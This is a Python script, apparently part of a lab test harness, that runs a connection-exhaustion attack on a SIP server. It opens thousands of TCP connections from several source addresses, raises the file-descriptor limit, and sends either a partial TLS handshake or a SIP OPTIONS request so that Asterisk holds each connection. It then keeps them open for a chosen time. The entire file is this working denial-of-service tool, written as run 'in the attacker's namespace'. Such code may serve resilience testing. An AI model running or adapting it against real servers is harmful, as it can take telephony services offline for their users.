"""Opens TCP connections and leaves them: silent, or with the first bytes of a TLS handshake; run in the attacker's namespace.

Reads one JSON order from standard input: target, port, sources, each (connections for each source), greet (send the start of
a handshake), ask (send an OPTIONS in clear instead), gentle (no more at a time than a SIP server without room for them accepts:
what overflows it looks open here, but is not there), seconds (how long they are held). Prints JSON when all have been tried:
connected; ends after the holding. One event loop of the kernel's, since thousands of tasks are late on a machine with other work.
"""

from __future__ import annotations

import errno
import json
import os
import resource
import select
import socket
import sys
import time
from typing import Any

HELLO = bytes.fromhex("16030102000100")


def options(target: str, local: str) -> bytes:
    """A request that Asterisk answers, after which it lets the connection stand."""
    lines = [
        f"OPTIONS sip:{target} SIP/2.0",
        f"Via: SIP/2.0/TCP {local};branch=z9hG4bK{os.urandom(6).hex()};rport",
        f"From: <sip:x@{target}>;tag={os.urandom(4).hex()}",
        f"To: <sip:x@{target}>",
        f"Call-ID: {os.urandom(8).hex()}",
        "CSeq: 1 OPTIONS",
        "Max-Forwards: 70",
        "Content-Length: 0",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def begin(order: dict[str, Any], source: str) -> socket.socket:
    """A connection that is on its way."""
    opening = socket.socket()
    opening.setblocking(False)
    opening.bind((source, 0))
    begun = opening.connect_ex((order["target"], order["port"]))
    if begun not in (0, errno.EINPROGRESS):
        raise OSError(begun, os.strerror(begun))
    return opening


def greet(order: dict[str, Any], opened: socket.socket) -> bool:
    """Says what the order has said on a connection; whether it came about."""
    if opened.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
        return False
    try:
        if order["greet"]:
            opened.send(HELLO)
        if order.get("ask"):
            opened.send(options(order["target"], ":".join(map(str, opened.getsockname()))))
    except OSError:
        return False
    return True


def await_all(order: dict[str, Any], opening: dict[int, socket.socket]) -> list[socket.socket]:
    """Those of some connections that come about within 4 s of the last one's start."""
    poll = select.epoll()
    for number in opening:
        poll.register(number, select.EPOLLOUT)
    opened = []
    deadline = time.monotonic() + 4
    while opening and (left := deadline - time.monotonic()) > 0:
        for number, _ in poll.poll(left):
            poll.unregister(number)
            connection = opening.pop(number)
            if greet(order, connection):
                opened.append(connection)
            else:
                connection.close()
    for connection in opening.values():
        connection.close()
    return opened


def main() -> None:
    """Open, report, hold."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
    order = json.load(sys.stdin)
    begun = []
    for source in (source for source in order["sources"] for _ in range(order["each"])):
        begun.append(begin(order, source))
        if order.get("gentle") and len(begun) % 4 == 0:
            time.sleep(0.01)
    opened = await_all(order, {connection.fileno(): connection for connection in begun})
    print(json.dumps({"connected": len(opened)}), flush=True)
    time.sleep(order["seconds"])


main()
